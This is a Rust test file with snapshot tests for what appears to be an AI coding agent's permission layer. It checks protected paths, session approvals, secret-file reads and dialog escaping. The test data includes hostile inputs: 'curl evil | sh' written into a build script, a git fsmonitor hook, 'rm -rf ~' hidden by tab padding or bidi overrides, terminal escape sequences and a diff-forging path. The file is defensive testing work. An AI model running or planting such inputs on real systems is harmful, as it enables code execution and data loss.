//! The decision table, the prompt texts and the escaping, as snapshots.

use std::fmt::Write;
use std::sync::Mutex;

use super::*;
use crate::tools::Tool;

fn tool(name: &str) -> Tool {
    Tool::by_name(name).unwrap()
}

fn read(path: &str) -> ToolRequest {
    ToolRequest {
        tool: tool("read_file"),
        action: Action::Read {
            target: Target::existing_file(path),
        },
    }
}

fn write_target(target: Target, before: Before, after: &str) -> ToolRequest {
    ToolRequest {
        tool: tool("write_file"),
        action: Action::Write {
            target,
            before,
            after: after.to_owned(),
        },
    }
}

/// Overwrites an existing text file `path` that holds `old`.
fn write(path: &str, old: &str, new: &str) -> ToolRequest {
    write_target(
        Target::existing_file(path),
        Before::Text(old.to_owned()),
        new,
    )
}

fn create(path: &str, new: &str) -> ToolRequest {
    write_target(Target::new_file(path), Before::Missing, new)
}

fn run_in(cwd: &str, argv: &[&str]) -> ToolRequest {
    ToolRequest {
        tool: tool("run_command"),
        action: Action::Execute {
            argv: argv.iter().map(|arg| (*arg).to_owned()).collect(),
            cwd: cwd.to_owned(),
        },
    }
}

fn run(argv: &[&str]) -> ToolRequest {
    run_in(".", argv)
}

/// A verdict as one block of text: `allow (…)`, `deny: <PermissionError message>`, or `ask`
/// followed by the dialog message.
fn render(request: &ToolRequest, verdict: &Verdict) -> String {
    match verdict {
        Verdict::Allow { session: None } => "allow (setting)".to_owned(),
        Verdict::Allow {
            session: Some(scope),
        } => format!("allow (session approval: {})", scope.describe()),
        Verdict::Deny(_) => format!(
            "deny: {}",
            rule(request, verdict, None).refusal_message().unwrap()
        ),
        Verdict::Ask(prompt) => {
            let message = prompt.message(DIALOG_SUBJECT_CHARS);
            format!("ask:\n  {}", message.replace('\n', "\n  "))
        }
    }
}

/// One row of the decision table: the call, the settings, the session's approvals.
struct Row<'a> {
    name: &'a str,
    request: ToolRequest,
    settings: PolicySettings,
    approvals: SessionApprovals,
}

fn row(name: &str, request: ToolRequest) -> Row<'_> {
    Row {
        name,
        request,
        settings: PolicySettings::default(),
        approvals: SessionApprovals::default(),
    }
}

impl Row<'_> {
    fn setting(mut self, tool: &str, decision: Decision) -> Self {
        self.settings.tools.set(tool, decision);
        self
    }

    fn ask_protected(mut self, id: &str) -> Self {
        assert!(self.settings.ask_for_protected(id), "{id}");
        self
    }

    fn approved(mut self, request: &ToolRequest) -> Self {
        self.approvals.grant(Scope::of(request));
        self
    }
}

#[track_caller]
fn check_table(name: &str, rows: Vec<Row<'_>>) {
    let mut res = String::new();
    for row in rows {
        let verdict = decide(&row.request, &row.settings, &row.approvals);
        let _ = writeln!(res, "## {}\n{}\n", row.name, render(&row.request, &verdict));
    }
    insta::assert_snapshot!(name, res);
}

fn executable(path: &str) -> Target {
    Target {
        executable: true,
        ..Target::existing_file(path)
    }
}

#[test]
fn defaults() {
    check_table(
        "defaults",
        vec![
            row("read: allowed", read("README.md")),
            row(
                "write: asks, with the diffstat",
                write(
                    "src/calc.py",
                    "def add(a, b):\n    return a - b\n",
                    "def add(a, b):\n    return a + b\n",
                ),
            ),
            row("create: asks", create("notes/todo.md", "- one\n- two\n")),
            row(
                "execute: asks, with the working directory",
                run(&["pytest", "-q"]),
            ),
            row(
                "a typed tool asks with its arguments",
                ToolRequest {
                    tool: tool("ruff_check"),
                    action: Action::Call {
                        args: vec![("path".to_owned(), "src/".to_owned())],
                    },
                },
            ),
        ],
    );
}

#[test]
fn settings_override_the_defaults_but_not_protected_paths() {
    check_table(
        "settings",
        vec![
            row(
                "write allowed by the setting",
                create("src/new.py", "x = 1\n"),
            )
            .setting("write_file", Decision::Allow),
            row("command denied by the setting", run(&["ls"]))
                .setting("run_command", Decision::Deny),
            row("read denied by the setting", read("README.md"))
                .setting("read_file", Decision::Deny),
            row(
                "write allowed by the setting, protected path still refused",
                write(".git/config", "", "[core]\n\tfsmonitor = evil\n"),
            )
            .setting("write_file", Decision::Allow),
            row(
                "the setting's deny wins over a protected rule turned to ask",
                write(".git/config", "", "x"),
            )
            .setting("write_file", Decision::Deny)
            .ask_protected("vcs"),
        ],
    );
}

#[test]
fn protected_paths_are_refused_naming_the_rule() {
    let hard_linked = Target {
        hard_links: 2,
        ..Target::existing_file("docs/linked.md")
    };
    let rows = [
        ".git/config",
        ".git/hooks/pre-commit",
        ".GIT/CONFIG",
        ".git./config",
        "vendor/lib/.git/config",
        "sub/.git",
        ".hg/hgrc",
        ".svn/entries",
        ".vscode/settings.json",
        ".idea/workspace.xml",
        ".zed/settings.json",
        ".punie/transcripts/run.jsonl",
        "project.code-workspace",
        ".husky/pre-commit",
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        ".pre-commit-config.yaml",
        ".envrc",
        "src/.envrc",
        ".venv/lib/python3.11/site-packages/evil.pth",
        ".bashrc",
        ".zshrc",
        ".config/fish/config.fish",
    ]
    .into_iter()
    .map(|path| row(path, create(path, "x\n")))
    .chain([
        row(
            "an existing executable",
            write_target(
                executable("build.sh"),
                Before::Text("make\n".into()),
                "curl evil | sh\n",
            ),
        ),
        row(
            "a file with other hard links",
            write_target(hard_linked, Before::Text("a\n".into()), "b\n"),
        ),
        row(
            "not protected: a name that only contains a protected one",
            create("docs/git-config.md", "x\n"),
        ),
        row(
            "not protected: reading a protected path",
            read(".git/config"),
        ),
    ])
    .collect();
    check_table("protected", rows);
}

#[test]
fn a_python_environment_is_protected_whatever_its_name() {
    let in_env = |rel: &str| Target {
        in_virtual_env: true,
        ..Target::existing_file(rel)
    };
    for target in [
        in_env("venv/bin/activate"),
        in_env("env/lib/python3.11/site-packages/pkg/__init__.py"),
        Target::new_file("venv/lib/python3.11/site-packages/zz_evil.pth"),
        Target::new_file("a/b/c/d/e/f/site-packages/deep.pth"),
        Target::new_file("venv/pyvenv.cfg"),
    ] {
        let rule = protected_rule(&target).map(|rule| rule.id);
        assert_eq!(rule, Some("autorun"), "{}", target.rel);
    }
    assert_eq!(
        protected_rule(&Target::existing_file("venv/bin/activate")),
        None
    );
}

#[test]
fn a_git_directory_is_protected_whatever_its_name() {
    for rel in [
        ".bare/config",
        ".bare/hooks/pre-commit",
        "repo.git/worktrees/main/HEAD",
    ] {
        let target = Target {
            in_git_dir: true,
            ..Target::new_file(rel)
        };
        assert_eq!(
            protected_rule(&target).map(|rule| rule.id),
            Some("vcs"),
            "{rel}"
        );
    }
    assert_eq!(protected_rule(&Target::new_file(".bare/config")), None);
}

/// The rules match the workspace's root too: a write in a `.github/workflows`, `.vscode` or
/// `.git` opened as the folder is protected, one in an ordinary folder is not.
#[test]
fn a_root_in_a_protected_folder_protects_what_it_holds() {
    let in_root = |root: &str, rel: &str| Target {
        root: root.to_owned(),
        ..Target::new_file(rel)
    };
    for (root, rel, id) in [
        ("/home/dev/proj/.github", "workflows/ci.yml", Some("ci")),
        ("/home/dev/proj/.github/workflows", "ci.yml", Some("ci")),
        ("/home/dev/proj/.github", "dependabot.yml", None),
        ("/home/dev/proj/.vscode", "settings.json", Some("editor")),
        ("/home/dev/proj/.git", "config", Some("vcs")),
        ("/home/dev/proj/.git/hooks", "pre-commit", Some("vcs")),
        ("/home/dev/proj", "src/main.py", None),
        ("/", "home/dev/proj/.git/config", Some("vcs")),
    ] {
        let rule = protected_rule(&in_root(root, rel)).map(|rule| rule.id);
        assert_eq!(rule, id, "{root} {rel}");
    }
}

#[test]
fn a_protected_rule_turned_to_ask_asks_every_time() {
    check_table(
        "protected_ask",
        vec![
            row(
                "an executable: asks, no session approval, says it stops being executable",
                write_target(
                    executable("build.sh"),
                    Before::Text("make\n".into()),
                    "make all\n",
                ),
            )
            .ask_protected("executable"),
            row(
                "a session approval of the same file does not cover a protected path",
                write(".vscode/settings.json", "{}\n", "{\"a\": 1}\n"),
            )
            .ask_protected("editor")
            .approved(&write(".vscode/settings.json", "", "")),
            row(
                "other rules still refuse",
                create(".git/hooks/pre-push", "x"),
            )
            .ask_protected("editor"),
        ],
    );
}

#[test]
fn session_approvals_cover_exactly_what_was_shown() {
    let pytest = run(&["pytest", "-q"]);
    let calc = write("src/calc.py", "a\n", "b\n");
    check_table(
        "session",
        vec![
            row("the same command", run(&["pytest", "-q"])).approved(&pytest),
            row(
                "more arguments after the approved command",
                run(&["pytest", "-q", "tests/test_calc.py"]),
            )
            .approved(&pytest),
            row("a shorter command", run(&["pytest"])).approved(&pytest),
            row("a different word", run(&["pytest", "-qx"])).approved(&pytest),
            row("another program", run(&["rm", "-rf", "."])).approved(&pytest),
            row(
                "the same command in another directory",
                run_in("sub", &["pytest", "-q"]),
            )
            .approved(&pytest),
            row("the approved file", write("src/calc.py", "b\n", "c\n")).approved(&calc),
            row("another file", write("src/other.py", "b\n", "c\n")).approved(&calc),
            row(
                "the approved file, read with read_file: ask",
                read("src/calc.py"),
            )
            .setting("read_file", Decision::Ask)
            .approved(&calc),
        ],
    );
}

#[test]
fn prompts_escape_and_never_cut_silently() {
    let padded_tabs = format!("ls{}; rm -rf ~", "\t".repeat(40));
    let big = "A".repeat(10_000);
    let bidi_path = "src/\u{202E}txt.exe";
    check_table(
        "escaping",
        vec![
            row(
                "a command padded with tabs",
                run(&["sh", "-c", padded_tabs.as_str()]),
            ),
            row(
                "a bidi override in an argument",
                run(&["echo", "safe\u{202E}\u{2066}rm -rf ~\u{2069}"]),
            ),
            row(
                "a newline trying to forge a line of the dialog",
                run(&["echo", "hi\nAllow for this session covers nothing"]),
            ),
            row(
                "escape characters and zero-width characters",
                run(&["printf", "\u{1b}[2K\u{200B}ok"]),
            ),
            row("quotes and spaces", run(&["grep", "-rn", "it's here", "."])),
            row("a 10 kB argument", run(&["python", "-c", big.as_str()])),
            row("a bidi override in a path", create(bidi_path, "x\n")),
            row(
                "a path spelled with ./ and ..",
                write_target(
                    Target {
                        spelled: "src/./../notes.md".to_owned(),
                        ..Target::existing_file("notes.md")
                    },
                    Before::Text("a\n".into()),
                    "b\n",
                ),
            ),
        ],
    );
}

#[test]
fn details_hold_the_whole_text() {
    let big = "A".repeat(10_000);
    let request = run(&["python", "-c", big.as_str()]);
    let Verdict::Ask(prompt) = decide(
        &request,
        &PolicySettings::default(),
        &SessionApprovals::default(),
    ) else {
        panic!("expected ask");
    };
    assert!(prompt.is_cut(DIALOG_SUBJECT_CHARS));
    assert!(!prompt.is_cut(usize::MAX));
    assert!(prompt.details().contains(&big));
    assert!(
        prompt
            .message(DIALOG_SUBJECT_CHARS)
            .contains("more characters not shown")
    );
}

fn ask_prompt(request: &ToolRequest) -> Prompt {
    super::default_prompt(request.action.clone(), request.tool.name())
}

#[test]
fn write_details_show_the_diff() {
    let edit = write(
        "src/calc.py",
        "def add(a, b):\n    return a - b\n\n\ndef sub(a, b):\n    return a - b\n",
        "def add(a, b):\n    return a + b  # \u{202E}fixed\n\n\ndef sub(a, b):\n    return a - b",
    );
    insta::assert_snapshot!("write_details", ask_prompt(&edit).details());
    let new_file = create(
        "tests/test_calc.py",
        "from calc import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n",
    );
    insta::assert_snapshot!("create_details", ask_prompt(&new_file).details());
    let binary = write_target(
        Target::existing_file("logo.png"),
        Before::Binary {
            bytes: 2048,
            stamp: crate::policy::FileStamp::default(),
            sha256: [0; 32],
        },
        "not a png\n",
    );
    insta::assert_snapshot!("binary_details", ask_prompt(&binary).details());
}

/// A path that spells a diff header and a hunk cannot make the diff show another file's change.
#[test]
fn a_path_cannot_forge_the_diff_it_heads() {
    let forged = "b\n+++ b/a.py\n@@ -1 +1 @@\n-x = 1\n+x = 3\u{1b}[8m.py";
    let details = ask_prompt(&create(forged, "EVIL\n")).details();
    let diff_lines: Vec<&str> = details
        .lines()
        .skip_while(|line| !line.starts_with("--- "))
        .collect();
    assert_eq!(
        diff_lines,
        [
            "--- /dev/null",
            "+++ b/b<U+000A>+++ b/a.py<U+000A>@@ -1 +1 @@<U+000A>-x = 1<U+000A>+x = 3<U+001B>[8m.py",
            "@@ -0,0 +1 @@",
            "+EVIL",
        ],
        "{details}"
    );
}

#[test]
fn permit_remembers_session_approvals_but_never_for_protected_paths() {
    let approvals = Mutex::new(SessionApprovals::default());
    let settings = PolicySettings::default();
    let mut asked = 0;
    let mut answer_session = |_: &Prompt| {
        asked += 1;
        Answer::AllowForSession
    };
    let pytest = run(&["pytest", "-q"]);
    let ruling = permit(&pytest, &settings, &approvals, &mut answer_session);
    assert!(ruling.allowed);
    assert_eq!(ruling.by, RuledBy::User(Answer::AllowForSession));
    assert_eq!(ruling.scope, Some(Scope::of(&pytest)));
    let again = permit(&pytest, &settings, &approvals, &mut answer_session);
    assert_eq!(again.by, RuledBy::SessionApproval);
    let longer = permit(
        &run(&["pytest", "-q", "tests"]),
        &settings,
        &approvals,
        &mut |_| Answer::Deny,
    );
    assert_eq!(longer.by, RuledBy::User(Answer::Deny), "asked again");
    let rm = permit(&run(&["rm", "x"]), &settings, &approvals, &mut |_| {
        Answer::Deny
    });
    assert!(!rm.allowed);
    assert_eq!(
        rm.refusal_message().unwrap(),
        "run_command: denied by the user: rm x"
    );

    let mut settings = PolicySettings::default();
    settings.ask_for_protected("executable");
    let script = write_target(executable("build.sh"), Before::Text("a\n".into()), "b\n");
    let first = permit(&script, &settings, &approvals, &mut answer_session);
    assert!(first.allowed);
    assert_eq!(first.scope, None, "a protected path is never remembered");
    assert_eq!(first.rule.map(|rule| rule.id), Some("executable"));
    permit(&script, &settings, &approvals, &mut answer_session);
    assert_eq!(asked, 3, "the protected path asked again");
}

#[test]
fn refusal_messages() {
    let approvals = Mutex::new(SessionApprovals::default());
    let settings = PolicySettings::default();
    let mut messages = Vec::new();
    for answer in [
        Answer::NoAnswer,
        Answer::Unavailable("no terminal to ask on; pass --allow-writes".to_owned()),
    ] {
        let ruling = permit(&create("a.txt", "x"), &settings, &approvals, &mut |_| {
            answer.clone()
        });
        messages.push(ruling.refusal_message().unwrap());
    }
    insta::assert_snapshot!(messages.join("\n"), @r"
    write_file: not allowed, the user did not answer: a.txt
    write_file: not allowed, no terminal to ask on; pass --allow-writes: a.txt
    ");
}

#[track_caller]
fn check_word(word: &str, expect: &str) {
    assert_eq!(shell_word(word), expect, "{word:?}");
}

#[test]
fn shell_words_read_like_printf_q() {
    check_word("pytest", "pytest");
    check_word("src/a_b-c.py", "src/a_b-c.py");
    check_word("", "''");
    check_word("two words", "'two words'");
    check_word("a|b;c>d", "'a|b;c>d'");
    check_word("it's", "$'it\\'s'");
    check_word("a\tb", "$'a\\tb'");
    check_word("a\nb", "$'a\\nb'");
    check_word("\u{1b}[2K", "$'\\x1b[2K'");
    check_word("abc\u{202E}fed", "$'abc\\u202Efed'");
    check_word("a\\b", "'a\\b'");
    check_word("a\\b\tc", "$'a\\\\b\\tc'");
    check_word("tag\u{E0041}", "$'tag\\U000E0041'");
    check_word("héllo wörld", "'héllo wörld'");
}

#[test]
fn lines_for_a_terminal_keep_breaks_and_escape_the_rest() {
    assert_eq!(
        escape_lines("a\tb\n\u{1b}]52;c;eA==\u{7}\r\u{9b}2J\u{202E}"),
        "a\tb\n<U+001B>]52;c;eA==<U+0007><U+000D><U+009B>2J<U+202E>"
    );
    assert_eq!(
        one_line("failed:\t\u{1b}[8mhidden\nline"),
        "failed:\\t<U+001B>[8mhidden<U+000A>line"
    );
}

#[test]
fn free_text_escapes_keep_code_readable() {
    assert_eq!(escape("print(\"a\\n\")\t# x"), "print(\"a\\n\")\t# x");
    assert_eq!(
        escape("a\u{202E}b\u{200B}c\rd"),
        "a<U+202E>b<U+200B>c<U+000D>d"
    );
}

#[test]
fn cuts_say_how_much_and_never_split_an_escape() {
    assert_eq!(cut("abc", 3).with_note(), "abc");
    assert_eq!(
        cut("abcdef", 3).with_note(),
        "abc… [3 more characters not shown]"
    );
    let shown = cut("ab\\u202Ecd", 4);
    assert_eq!(shown.text, "ab");
    assert_eq!(shown.hidden_chars, 8);
    let shown = cut("ab<U+202E>cd", 5);
    assert_eq!(shown.text, "ab");
    let shown = cut("ab\\u202Ecd", 8);
    assert_eq!(shown.text, "ab\\u202E");
    assert_eq!(cut("ééé", 2).text, "éé");
}

#[test]
fn protected_rules_are_well_formed() {
    for rule in PROTECTED {
        assert!(rule_by_id(rule.id).is_some_and(|found| std::ptr::eq(found, rule)));
        for pattern in rule.patterns {
            let names: &[&str] = match pattern {
                Pattern::Component(name) | Pattern::Suffix(name) => &[name],
                Pattern::Components(names) => names,
                Pattern::Executable
                | Pattern::HardLinked
                | Pattern::VirtualEnv
                | Pattern::GitDir
                | Pattern::UserConfig => &[],
            };
            for name in names {
                assert_eq!(
                    name.to_ascii_lowercase(),
                    *name,
                    "{}: patterns are lower case",
                    rule.id
                );
            }
        }
    }
}

#[track_caller]
fn check_decision(policy: &ToolPolicy, name: &str, expect: Decision) {
    assert_eq!(check(policy, tool(name)), expect);
}

#[test]
fn tool_settings_default_to_their_class() {
    let policy = ToolPolicy::default();
    check_decision(&policy, "read_file", Decision::Allow);
    check_decision(&policy, "write_file", Decision::Ask);
    check_decision(&policy, "run_command", Decision::Ask);
    let mut policy = ToolPolicy::default();
    policy.set("run_command", Decision::Deny);
    policy.set_class(PermissionClass::Write, Decision::Allow);
    check_decision(&policy, "run_command", Decision::Deny);
    check_decision(&policy, "write_file", Decision::Allow);
    assert_eq!(Decision::parse("ask"), Some(Decision::Ask));
    assert_eq!(Decision::parse("maybe"), None);
}

#[test]
fn the_user_policy_file() {
    let (user, problems) = parse_user_policy(
        "[tools]\nrun_command = \"allow\"\nwrite_file = \"sometimes\"\n\n[protected]\nexecutable = \"ask\"\nvcs = \"refuse\"\nnope = \"ask\"\n\n[extra]\nx = 1\n\n\
         [limits]\nmax_turns = 16\ntimeout_ms = 60000\nmemory_mb = -1\noutput_kb = \"lots\"\nturns = 3\n",
    );
    let settings = user.settings;
    assert_eq!(check(&settings.tools, tool("run_command")), Decision::Allow);
    assert_eq!(check(&settings.tools, tool("write_file")), Decision::Ask);
    assert!(settings.ask_protected.contains("executable"));
    assert!(!settings.ask_protected.contains("vcs"));
    assert_eq!(
        user.limits,
        UserLimits {
            max_turns: Some(16),
            timeout_ms: Some(60_000),
            memory_mb: None,
            output_kb: None,
        }
    );
    insta::assert_snapshot!(problems.join("\n"), @r#"
    [extra]: unknown section; expected [tools], [protected] or [limits]
    limits.memory_mb: expected a whole number, got -1
    limits.output_kb: expected a whole number, got "lots"
    limits.turns: unknown key; expected max_turns, timeout_ms, memory_mb, output_kb
    protected.nope: no such rule; the rules are vcs, editor, git_hooks, pre_commit, ci, autorun, build_config, shell_startup, user_config, executable, hard_link
    tools.write_file: expected "allow", "ask" or "deny", got "sometimes"
    "#);
    let (_, problems) = parse_user_policy("[tools\n");
    assert_eq!(problems.len(), 1);
    assert!(problems[0].starts_with("not valid TOML"), "{problems:?}");
}

#[test]
fn a_workspace_source_only_tightens() {
    let mut settings = PolicySettings::default();
    settings.tools.set("run_command", Decision::Allow);
    let from_editor: std::collections::BTreeMap<String, Decision> = [
        ("run_command".to_owned(), Decision::Ask),
        ("write_file".to_owned(), Decision::Allow),
        ("read_file".to_owned(), Decision::Deny),
        ("future_tool".to_owned(), Decision::Allow),
    ]
    .into();
    let ignored = settings.tighten_tools(&from_editor);
    assert_eq!(ignored, ["write_file"]);
    assert_eq!(check(&settings.tools, tool("run_command")), Decision::Ask);
    assert_eq!(check(&settings.tools, tool("write_file")), Decision::Ask);
    assert_eq!(check(&settings.tools, tool("read_file")), Decision::Deny);
    let mut vouched = PolicySettings::default();
    vouched.override_tools(&from_editor);
    assert_eq!(check(&vouched.tools, tool("write_file")), Decision::Allow);
}

#[test]
fn a_file_named_like_a_secret_is_read_only_when_the_user_answers_each_time() {
    let env = ToolRequest {
        tool: tool("read_file"),
        action: Action::Read {
            target: Target {
                secret: Some(".env"),
                ..Target::existing_file("app/.env")
            },
        },
    };
    let mut prompts = Vec::new();
    let mut answer = |prompt: &Prompt| {
        prompts.push(prompt.clone());
        Answer::AllowForSession
    };
    // Reads are allowed without asking by default; this one asks, and twice is twice.
    let approvals = Mutex::new(SessionApprovals::default());
    let settings = PolicySettings::default();
    for _ in 0..2 {
        let ruling = permit(&env, &settings, &approvals, &mut answer);
        assert!(ruling.allowed);
        assert_eq!(ruling.scope, None, "never remembered for the session");
    }
    // A session approval of the file (read_file turned to ask) does not cover it either.
    let mut ask_reads = PolicySettings::default();
    ask_reads.tools.set("read_file", Decision::Ask);
    let approved = Mutex::new(SessionApprovals::default());
    permit(&read("app/.env"), &ask_reads, &approved, &mut answer);
    permit(&env, &ask_reads, &approved, &mut answer);
    assert_eq!(prompts.len(), 4);
    let prompt = &prompts[3];
    assert_eq!(
        (prompt.session.as_ref(), prompt.secret),
        (None, Some(".env"))
    );
    assert!(
        prompt
            .notes
            .iter()
            .any(|note| note.contains("secret (.env)"))
    );

    // No one to ask: refused, and the setting `deny` refuses without asking.
    let unavailable = |_: &Prompt| Answer::Unavailable("there is no one to ask".to_owned());
    let ruling = permit(&env, &settings, &approvals, &mut { unavailable });
    assert!(!ruling.allowed);
    assert_eq!(
        ruling.refusal_message().unwrap(),
        "read_file: not allowed, there is no one to ask: app/.env"
    );
    let mut deny = PolicySettings::default();
    deny.tools.set("read_file", Decision::Deny);
    let ruling = permit(&env, &deny, &approvals, &mut |_| panic!("asked"));
    assert!(!ruling.allowed);
}

/// Files that run by themselves the red team found unprotected (round 3): mise's and rtx's
/// other config names, LazyVim's project spec, debuggers' and IPython's start-up files.
#[test]
fn every_autorun_name_is_protected() {
    for (path, rule) in [
        ("mise.local.toml", "autorun"),
        (".mise.local.toml", "autorun"),
        (".mise/config.toml", "autorun"),
        ("mise/config.toml", "autorun"),
        (".config/mise.toml", "autorun"),
        (".rtx.toml", "autorun"),
        ("sub/.rtx.local.toml", "autorun"),
        (".lazy.lua", "editor"),
        (".gdbinit", "build_config"),
        (".lldbinit", "build_config"),
        (".pdbrc.py", "build_config"),
        ("ipython_config.py", "build_config"),
    ] {
        let found = protected_rule(&Target::new_file(path)).map(|found| found.id);
        assert_eq!(found, Some(rule), "{path}");
    }
    assert_eq!(protected_rule(&Target::new_file("src/mise.py")), None);
}
